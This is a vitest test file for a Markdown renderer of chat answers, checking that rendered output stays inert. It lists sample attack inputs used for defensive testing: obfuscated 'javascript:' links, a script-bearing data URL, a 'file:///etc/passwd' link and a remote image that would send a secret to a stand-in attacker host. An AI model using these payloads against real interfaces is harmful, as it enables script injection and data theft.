import type { ComponentChild, VNode } from 'preact';
import { readFileSync } from 'node:fs';
import { isValidElement } from 'preact';
import { describe, expect, it } from 'vitest';
import { CodeBlock } from './code-block.tsx';
import { emptyDocument, growDocument } from './grow-document.ts';
import { renderBlocks } from './blocks.tsx';

interface Drawn {
  readonly tag: string;
  readonly props: Readonly<Record<string, unknown>>;
}

/** Everything an answer becomes: its elements and its text. */
function draw(text: string): { elements: Drawn[]; text: string } {
  const elements: Drawn[] = [];
  const tokens = growDocument(emptyDocument, text).blocks.map(({ token }) => token);
  const visit = (child: ComponentChild): string => {
    if (Array.isArray(child)) return child.map(visit).join('');
    if (!isValidElement(child)) return typeof child === 'string' ? child : '';
    const { type, props } = child as VNode<Record<string, ComponentChild>>;
    if (Object.is(type, CodeBlock)) {
      elements.push({ tag: 'code-block', props });
      return typeof props['text'] === 'string' ? props['text'] : '';
    }
    elements.push({ tag: String(type), props });
    return visit(props['children']);
  };
  return { text: visit(renderBlocks(tokens)), elements };
}

function tags(text: string): string[] {
  return draw(text).elements.map(({ tag }) => tag);
}

const harmless = new Set(
  'a b blockquote br code code-block del div em h3 h4 h5 h6 hr i img kbd li mark ol p s span strong sub sup table tbody td th thead tr u ul'.split(
    ' ',
  ),
);

/** What of an answer could do more than be read: none is expected of any text. */
function findActive(text: string): string[] {
  return draw(text).elements.flatMap(({ tag, props }) => {
    const active = Object.entries(props).filter(([name, value]) => !isInert(name, String(value)));
    return [...(harmless.has(tag) ? [] : [tag]), ...active.map(([name]) => `${tag} ${name}`)];
  });
}

function isInert(name: string, value: string): boolean {
  if (name === 'href') return /^(?:https?|mailto|tel):/.test(value);
  if (name === 'src') return /^data:image\/(?:png|jpeg|gif|webp);base64,/.test(value);
  return !/^on|^dangerously|^style$|^srcdoc$/i.test(name);
}

const strings = JSON.parse(
  readFileSync(new URL('fixtures/xss-strings.json', import.meta.url), 'utf8'),
) as string[];

describe('the blocks of an answer', () => {
  it.each(strings)('leave %j inert, alone and within Markdown', (string) => {
    for (const text of [
      string,
      `# ${string}`,
      `[${string}](${string})`,
      `![${string}](${string})`,
      `<${string}>`,
      `| ${string} | b |\n|---|---|\n| ${string} | c |`,
      `- ${string}\n  > ${string}`,
      `[x]: ${string}\n\n[x]`,
      `<b>${string}</b>`,
    ])
      expect(findActive(text)).toEqual([]);
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    '&#106;avascript:alert(1)',
    'vbscript:x',
    'data:text/html,<script>alert(1)</script>',
    'file:///etc/passwd',
    '/auth/logout',
    '//evil.example',
    '#code=abc',
    'blob:http://127.0.0.1/1',
  ])('make no link of %j', (href) => {
    expect(tags(`[here](<${href}>)`)).not.toContain('a');
  });

  it('load no picture from anywhere', () => {
    const drawn = draw('![secret](http://evil.example/?q=secret)');
    expect(drawn.elements.map(({ tag }) => tag)).toEqual(['p', 'a']);
    expect(drawn.text).toBe('Image: secret');
  });

  it('show a picture that is in the text', () => {
    expect(draw('![dot](data:image/png;base64,iVBORw0KGgo=)').elements[1]).toMatchObject({
      tag: 'img',
      props: { alt: 'dot' },
    });
    expect(tags('![x](data:image/svg+xml;base64,PHN2Zz4=)')).not.toContain('img');
  });

  it('open links elsewhere and tell them nothing', () => {
    expect(draw('[a](https://a.example/?x=1&amp;y=2)').elements[1]?.props).toMatchObject({
      href: 'https://a.example/?x=1&y=2',
      target: '_blank',
      rel: 'noopener noreferrer nofollow',
    });
  });

  it('show HTML as what it is: text', () => {
    expect(draw('a <script>alert(1)</script> b').text).toBe('a <script>alert(1)</script> b');
    expect(draw('<div onclick="x()">hi</div>').text).toBe('<div onclick="x()">hi</div>');
  });

  it('know the few tags that people write in Markdown', () => {
    expect(tags('H<sub>2</sub>O<br>x<kbd>Esc</kbd>')).toEqual(['p', 'sub', 'br', 'kbd']);
    expect(draw('an open <sub> and </kbd>').text).toBe('an open <sub> and </kbd>');
  });

  it('decode character references once, and not within code', () => {
    expect(draw('&lt;b&gt; &amp;lt; &nbsp;`&lt;` &unknown;').text).toBe(
      '<b> &lt; \u00A0&lt; &unknown;',
    );
  });

  it('begin headings below those of the page', () => {
    expect(tags('# One\n\n### Three')).toEqual(['h3', 'h4']);
  });

  it('keep lists, tasks and numbers', () => {
    expect(draw('3. c\n4. d').elements[0]).toMatchObject({ tag: 'ol', props: { start: 3 } });
    expect(draw('- [x] done\n- [ ] open').text).toBe('☑ done☐ open');
  });
});
